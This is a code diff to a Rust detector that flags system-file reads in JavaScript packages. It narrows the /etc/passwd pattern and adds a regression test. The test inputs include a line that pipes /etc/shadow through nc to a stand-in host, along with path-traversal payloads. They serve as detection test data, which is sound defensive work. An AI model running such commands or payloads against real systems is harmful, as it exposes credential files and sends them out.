@@ -208,7 +208,14 @@ static JS_PATTERNS: LazyLock<Vec<(Regex, Cap, &'static str)>> = LazyLock::new(||
             Cap::FileWrite,
             "$1",
         ),
-        (r"/etc/(passwd|shadow)(?-u:\b)", Cap::SystemFile, "/etc/$1"),
+        // An absolute path that starts a string or a shell word: `'/etc/passwd'`,
+        // `cat /etc/passwd`. Not the end of a longer path or URL (`'/%2e%2E/etc/passwd'`,
+        // `'../../etc/passwd'`), which is how traversal tests and payload lists name it.
+        (
+            r#"(?:^|['"`\s])/etc/(passwd|shadow)(?-u:\b)"#,
+            Cap::SystemFile,
+            "/etc/$1",
+        ),
         // Sends that are not HTTP requests: realtime, database and messaging SDKs.
         (
             r#"(?:require\s*\(|from|import\s*\()\s*['"](ws|socket\.io-client|firebase(?:/[\w/-]+)?|@firebase/[\w-]+|@supabase/supabase-js|pusher-js|pusher|mqtt|nodemailer|ably|discord\.js|node-telegram-bot-api)['"]"#,
@@ -825,6 +832,30 @@ mod tests {
         assert!(whats.contains(&".npmrc"));
         assert!(whats.contains(&"child_process"));
         assert!(whats.contains(&"curl through a child process"));
+    }
+
+    /// A traversal payload in a test names `/etc/passwd` at the end of a URL path; that is not a
+    /// read of the file (regression: st@0.2.5's `test/basic.js` was an exfiltration error).
+    #[test]
+    fn system_files_are_absolute_paths_not_the_end_of_a_traversal_url() {
+        for read in [
+            "fs.readFileSync('/etc/passwd')",
+            "exec('cat /etc/shadow | nc x.invalid 9')",
+        ] {
+            assert!(
+                caps(read).iter().any(|(c, _)| *c == Cap::SystemFile),
+                "{read}"
+            );
+        }
+        for payload in [
+            "req('/%2e%2E/%2e%2E/etc/passwd', cb)",
+            "get('../../../etc/passwd')",
+        ] {
+            assert!(
+                !caps(payload).iter().any(|(c, _)| *c == Cap::SystemFile),
+                "{payload}"
+            );
+        }
     }
 
     #[test]
